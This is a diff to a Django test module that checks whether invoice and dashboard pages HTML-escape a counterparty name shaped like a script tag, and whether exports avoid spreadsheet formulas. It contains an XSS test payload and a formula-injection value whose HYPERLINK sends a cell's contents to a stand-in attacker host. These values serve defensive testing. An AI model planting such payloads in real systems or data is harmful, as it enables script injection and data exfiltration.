@@ -16,6 +16,7 @@ from tests.test_access import CASES, world  # noqa: F401 (a fixture)
 
 pytestmark = pytest.mark.django_db
 SCRIPT = "<script>alert('x')</script>有限公司"
+SHOWN_AS_TEXT = "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;有限公司"  # SCRIPT, HTML-escaped
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 # Posts that are not forms of a page: the API authenticates by token, login/logout are Django's own.
 NOT_PAGE_FORMS = ("api_",)
@@ -49,8 +50,12 @@ def test_a_counterparty_named_like_a_script_is_shown_as_text(alice, company_a, b
     client = browser_as(alice)
     for path in ("/invoices/", f"/invoices/{hostile_invoice.pk}/", "/dashboard/worklist/",
                  f"/dashboard/worklist/{alert.pk}/", "/monitor/alerts/", "/dashboard/report/"):  # fmt: skip
-        body = client.get(path).content.decode()
+        response = client.get(path)
+        assert response.status_code == 200, path
+        body = response.content.decode()
         assert "<script>alert(" not in body, path
+        assert SCRIPT not in body, path
+        assert SHOWN_AS_TEXT in body, path
 
 
 def test_no_export_hands_a_formula_to_a_spreadsheet(alice, company_a, browser_as, hostile_invoice):
